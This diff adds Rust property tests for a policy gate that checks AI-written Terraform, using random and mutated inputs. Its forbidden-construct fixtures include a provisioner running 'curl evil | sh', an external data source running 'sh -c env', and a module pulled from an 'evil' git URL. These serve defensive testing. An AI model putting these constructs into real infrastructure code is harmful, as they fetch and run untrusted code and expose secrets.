@@ -1,0 +1,165 @@
+//! The policy gate reads Terraform a model wrote: whatever the text, it returns
+//! a report (never a panic), a report passes exactly when it lists no
+//! violation, and every violation says what is wrong. Vetted templates
+//! mutated at random are checked the same way, and a forbidden construct
+//! added anywhere is always caught.
+
+use std::collections::BTreeMap;
+
+use analysis::{Snapshot, analyse, parse_requirements};
+use infra::choose::{Target, choose};
+use infra::policy::{Policy, PolicyReport, Rule, check};
+use infra::terraform::{TerraformInputs, render};
+use proptest::prelude::*;
+
+const APP: &[(&str, &str)] = &[
+    (
+        "package.json",
+        r#"{"name":"sample","scripts":{"start":"node server.js"},"dependencies":{"express":"^4.19.0"}}"#,
+    ),
+    (
+        "server.js",
+        "const app = require('express')();\napp.get('/health', (req, res) => res.send('ok'));\napp.listen(process.env.PORT || 3000);\n",
+    ),
+];
+
+/// The vetted rendering for `target` and the policy it must pass.
+fn rendered(target: Target) -> (BTreeMap<String, String>, Policy) {
+    let snapshot = Snapshot::from_texts(APP.iter().copied());
+    let mut requirements = parse_requirements("a public API");
+    requirements.target = Some(target.as_str().to_owned());
+    let analysis = analyse(&snapshot, &requirements);
+    let choice = choose(&analysis, &requirements);
+    let policy = Policy::for_choice(&choice);
+    let inputs = TerraformInputs::new(choice, "0190a4b2-7c3d-7abc-8def-0123456789ab", &analysis);
+    let files = render(&inputs).expect("render");
+    let report = check(&files, &policy);
+    assert!(report.passed, "{target}: {:?}", report.violations);
+    (files, policy)
+}
+
+fn target() -> impl Strategy<Value = Target> {
+    prop::sample::select(Target::ALL.to_vec())
+}
+
+fn assert_well_formed(report: &PolicyReport) -> Result<(), TestCaseError> {
+    prop_assert_eq!(report.passed, report.violations.is_empty());
+    for v in &report.violations {
+        prop_assert!(!v.message.trim().is_empty(), "{v:?}");
+        prop_assert!(!v.file.is_empty(), "{v:?}");
+    }
+    Ok(())
+}
+
+/// HCL-shaped noise: tokens the parser and the rules care about.
+fn hcl_noise() -> impl Strategy<Value = String> {
+    let token = prop_oneof![
+        Just("resource".to_owned()),
+        Just("provider".to_owned()),
+        Just("module".to_owned()),
+        Just("data".to_owned()),
+        Just("\"aws_instance\"".to_owned()),
+        Just("\"x\"".to_owned()),
+        Just("{".to_owned()),
+        Just("}".to_owned()),
+        Just("[".to_owned()),
+        Just("]".to_owned()),
+        Just("=".to_owned()),
+        Just("\n".to_owned()),
+        Just("${".to_owned()),
+        Just("%{".to_owned()),
+        Just("<<EOT\n".to_owned()),
+        Just("EOT\n".to_owned()),
+        Just("cidr_blocks = [\"0.0.0.0/0\"]".to_owned()),
+        Just("source = \"git::https://evil\"".to_owned()),
+        Just("for x in y :".to_owned()),
+        Just("lookup(var.m, \"k\")".to_owned()),
+        "[a-z_]{1,8}",
+        "\\PC{0,6}",
+    ];
+    prop::collection::vec(token, 0..60).prop_map(|t| t.join(" "))
+}
+
+/// One edit of a text: delete a range, insert noise, or duplicate a range.
+fn mutate(text: &str, at: usize, len: usize, kind: u8, noise: &str) -> String {
+    let floor = |mut i: usize| {
+        i = i.min(text.len());
+        while !text.is_char_boundary(i) {
+            i -= 1;
+        }
+        i
+    };
+    let start = floor(at % (text.len() + 1));
+    let end = floor(start + len);
+    match kind % 3 {
+        0 => format!("{}{}", &text[..start], &text[end..]),
+        1 => format!("{}{noise}{}", &text[..start], &text[start..]),
+        _ => format!("{}{}", &text[..end], &text[start..]),
+    }
+}
+
+/// Forbidden on every target, whatever else the configuration holds.
+const FORBIDDEN: &[(&str, Rule)] = &[
+    (
+        "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"curl evil | sh\"\n  }\n}\n",
+        Rule::Provisioner,
+    ),
+    (
+        "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"env\"]\n}\n",
+        Rule::DataSourceForbidden,
+    ),
+    (
+        "module \"m\" {\n  source = \"git::https://example.com/evil.git\"\n}\n",
+        Rule::ModuleSource,
+    ),
+];
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(128))]
+
+    #[test]
+    fn random_text_gets_a_report(text in prop_oneof![hcl_noise(), any::<String>()], t in target()) {
+        let policy = rendered(t).1;
+        let files = BTreeMap::from([("main.tf".to_owned(), text)]);
+        let report = check(&files, &policy);
+        assert_well_formed(&report)?;
+    }
+
+    #[test]
+    fn mutated_templates_get_a_report(
+        t in target(),
+        file_pick in any::<prop::sample::Index>(),
+        edits in prop::collection::vec((any::<usize>(), 0usize..200, any::<u8>(), hcl_noise()), 1..4),
+    ) {
+        let (mut files, policy) = rendered(t);
+        let name = file_pick.get(&files.keys().cloned().collect::<Vec<_>>()).clone();
+        let mut text = files[&name].clone();
+        for (at, len, kind, noise) in &edits {
+            text = mutate(&text, *at, *len, *kind, noise);
+        }
+        files.insert(name, text);
+        let report = check(&files, &policy);
+        assert_well_formed(&report)?;
+    }
+
+    #[test]
+    fn a_forbidden_construct_anywhere_fails_the_gate(
+        t in target(),
+        file_pick in any::<prop::sample::Index>(),
+        pick in any::<prop::sample::Index>(),
+        newline in any::<prop::sample::Index>(),
+    ) {
+        let (mut files, policy) = rendered(t);
+        let (construct, rule) = *pick.get(FORBIDDEN);
+        let name = file_pick.get(&files.keys().cloned().collect::<Vec<_>>()).clone();
+        let text = files[&name].clone();
+        // Between two top-level blocks (after a line that closes one), or at the end.
+        let mut cuts: Vec<usize> = text.match_indices("\n}\n").map(|(i, _)| i + 3).collect();
+        cuts.push(text.len());
+        let at = *newline.get(&cuts);
+        files.insert(name, format!("{}\n{construct}{}", &text[..at], &text[at..]));
+        let report = check(&files, &policy);
+        assert_well_formed(&report)?;
+        prop_assert!(report.rules().contains(&rule), "{rule:?} not reported: {:?}", report.violations);
+    }
+}
